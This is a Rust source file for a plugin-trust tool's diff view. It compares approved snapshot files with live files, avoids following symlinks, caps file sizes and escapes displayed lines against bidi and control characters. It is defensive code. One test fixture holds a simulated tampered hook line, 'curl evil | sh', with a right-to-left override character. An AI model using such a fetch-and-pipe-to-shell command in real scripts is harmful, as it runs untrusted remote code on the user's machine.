//! `hookbox trust diff`'s content view: what changed in an approved plugin's files since the
//! snapshot it was approved with — a unified diff of each changed text file (the approved bytes
//! from the snapshot, the live ones read beneath the plugin folder — or the project, for a
//! settings file's hook folders — without following a link),
//! sizes and digests for a binary or oversized file, and the files removed. Files added to the
//! folder since are not listed here (a rule that runs one shows it as a changed rule).
//!
//! The live folder is hostile: each file is opened beneath it, no symlink followed, bounded by
//! [`MAX_SHOWN_BYTES`]; every line shown is escaped (`escape_shown`), so a diff can neither
//! hide text behind bidi or control characters nor write to the terminal.

use std::fmt::Write as _;
use std::path::Path;

use hookbox_core::files::{open_beneath, read_opened};
use hookbox_host::ApprovalStore;
use hookbox_host::trust::SubjectReport;
use hookbox_trust::{Base, Digest, EntryKind, escape_shown as untrusted};
use owo_colors::OwoColorize as _;

/// Largest file whose text is diffed; a larger one is named with sizes and digests.
pub(crate) const MAX_SHOWN_BYTES: u64 = 1024 * 1024;

/// Lines of context around each change.
const CONTEXT_LINES: usize = 3;

/// What one approved file is now.
enum Now {
    /// The same bytes.
    Same,
    /// Not there (or no longer a regular file beneath the folder).
    Gone(String),
    /// A regular file that cannot be shown (over [`MAX_SHOWN_BYTES`], unreadable).
    Unreadable(String),
    /// Other bytes.
    Changed(Vec<u8>),
}

/// Appends to `s` the content diff of `sub`'s plugin folder (for a bare hooks or settings file:
/// the project hook folders beneath `project` its snapshot holds) against its approved
/// snapshot; returns whether any file differs. Nothing is written for a subject without a
/// snapshot (a settings file whose commands run no project file, an approval older than
/// snapshots) or whose store cannot be read (the rule diff above says why it is not approved).
pub(crate) fn write_file_diffs(
    s: &mut String,
    sub: &SubjectReport,
    store_dir: &Path,
    project: &Path,
) -> bool {
    let Some(id) = sub.approval.as_ref().and_then(|a| a.snapshot).map(|r| r.id) else {
        return false;
    };
    let snapshot = match ApprovalStore::open(store_dir)
        .ok()
        .flatten()
        .map(|store| store.snapshots(false))
    {
        Some(Ok(Some(snaps))) => match snaps.open(id) {
            Ok(snap) => snap,
            Err(e) => {
                let _ = writeln!(
                    s,
                    "  its snapshot cannot be read: {}",
                    untrusted(&e.to_string())
                );
                return false;
            }
        },
        _ => return false,
    };
    let project = project
        .canonicalize()
        .unwrap_or_else(|_| project.to_owned());
    let mut differs = false;
    for root in &snapshot.manifest.roots {
        // A plugin's folder, or the project a settings file's hook folders are beneath.
        let folder = match root.base {
            Base::Plugin if !sub.bare => Path::new(&sub.subject),
            Base::Project => project.as_path(),
            _ => continue,
        };
        let tree = snapshot.root_path(root);
        for entry in &root.entries {
            let EntryKind::File { sha256, size, .. } = entry.kind else {
                continue;
            };
            let rel = root.base_path(&entry.path);
            let approved_path = if entry.path.is_empty() {
                tree.clone()
            } else {
                tree.join(&entry.path)
            };
            let now = match open_beneath(folder, Path::new(&rel))
                .and_then(|f| read_opened(f, &folder.join(&rel), MAX_SHOWN_BYTES))
            {
                Ok(bytes) if Digest::of(&bytes) == sha256 => Now::Same,
                Ok(bytes) => Now::Changed(bytes),
                Err(e) => match std::fs::symlink_metadata(folder.join(&rel)) {
                    Ok(m) if m.is_file() => Now::Unreadable(e.to_string()),
                    _ => Now::Gone(e.to_string()),
                },
            };
            match now {
                Now::Same => {}
                Now::Gone(why) => {
                    differs = true;
                    let _ = writeln!(
                        s,
                        "  {} {}: {}",
                        "removed".red(),
                        untrusted(&rel),
                        untrusted(&why)
                    );
                }
                Now::Unreadable(why) => {
                    differs = true;
                    let _ = writeln!(
                        s,
                        "  {} {} (not shown: {}): approved {} bytes {}",
                        "changed".yellow(),
                        untrusted(&rel),
                        untrusted(&why),
                        size,
                        sha256.short()
                    );
                }
                Now::Changed(bytes) => {
                    differs = true;
                    // The store's own copy, bounded like the live one: a larger approved file is
                    // shown by size and digest only (an empty side is never text to diff).
                    let old = (size <= MAX_SHOWN_BYTES)
                        .then(|| std::fs::read(&approved_path).ok())
                        .flatten();
                    write_one(s, &rel, old.as_deref(), &bytes, sha256, size);
                }
            }
        }
    }
    differs
}

/// One changed file: a unified diff when both sides are text (`old`: the approved bytes, `None`
/// when too large to show), else sizes and digests.
fn write_one(
    s: &mut String,
    rel: &str,
    old: Option<&[u8]>,
    new: &[u8],
    approved: Digest,
    size: u64,
) {
    let text = |b: &[u8]| -> Option<String> {
        std::str::from_utf8(b)
            .ok()
            .filter(|t| !t.contains('\0'))
            .map(str::to_owned)
    };
    match (old.and_then(text), text(new)) {
        (Some(old), Some(new)) => {
            let diff = similar::TextDiff::from_lines(&old, &new);
            let shown = diff
                .unified_diff()
                .context_radius(CONTEXT_LINES)
                .header(&format!("approved/{rel}"), &format!("live/{rel}"))
                .to_string();
            let _ = writeln!(s, "  {} {}:", "changed".yellow(), untrusted(rel));
            for line in shown.lines() {
                let line = untrusted(line);
                let _ = match line.chars().next() {
                    Some('+') if !line.starts_with("+++") => writeln!(s, "    {}", line.green()),
                    Some('-') if !line.starts_with("---") => writeln!(s, "    {}", line.red()),
                    _ => writeln!(s, "    {line}"),
                };
            }
        }
        _ => {
            let _ = writeln!(
                s,
                "  {} {} (binary, or over {} bytes: not shown): approved {} bytes {}, now {} bytes {}",
                "changed".yellow(),
                untrusted(rel),
                MAX_SHOWN_BYTES,
                size,
                approved.short(),
                new.len(),
                Digest::of(new).short()
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_text_file_is_a_unified_diff_with_its_lines_escaped() {
        let old = b"#!/bin/sh\necho one\nexit 0\n";
        let new = "#!/bin/sh\necho one\ncurl evil | sh \u{202e}\nexit 0\n";
        let mut s = String::new();
        write_one(
            &mut s,
            "hooks/g.sh",
            Some(old),
            new.as_bytes(),
            Digest::of(old),
            3,
        );
        let plain = anstream::adapter::strip_str(&s).to_string();
        assert!(plain.contains("--- approved/hooks/g.sh"), "{plain}");
        assert!(plain.contains("+++ live/hooks/g.sh"), "{plain}");
        assert!(plain.contains("+curl evil | sh \\u{202e}"), "{plain}");
        assert!(!plain.contains('\u{202e}'), "{plain}");
        assert!(plain.contains(" echo one"), "{plain}");
    }

    #[test]
    fn a_binary_file_is_named_with_sizes_and_digests() {
        let old = b"\0\x01\x02";
        let new = b"\0\x01\x03\x04";
        let mut s = String::new();
        write_one(&mut s, "bin/tool", Some(old), new, Digest::of(old), 3);
        let plain = anstream::adapter::strip_str(&s).to_string();
        assert!(plain.contains("approved 3 bytes"), "{plain}");
        assert!(plain.contains("now 4 bytes"), "{plain}");
        assert!(plain.contains(&Digest::of(new).short()), "{plain}");
        // An approved file too large to read back is shown the same way, never diffed as empty.
        let mut s = String::new();
        write_one(
            &mut s,
            "big.txt",
            None,
            b"small now\n",
            Digest::of(old),
            2 << 20,
        );
        let plain = anstream::adapter::strip_str(&s).to_string();
        assert!(plain.contains("approved 2097152 bytes"), "{plain}");
        assert!(!plain.contains("+small now"), "{plain}");
    }
}
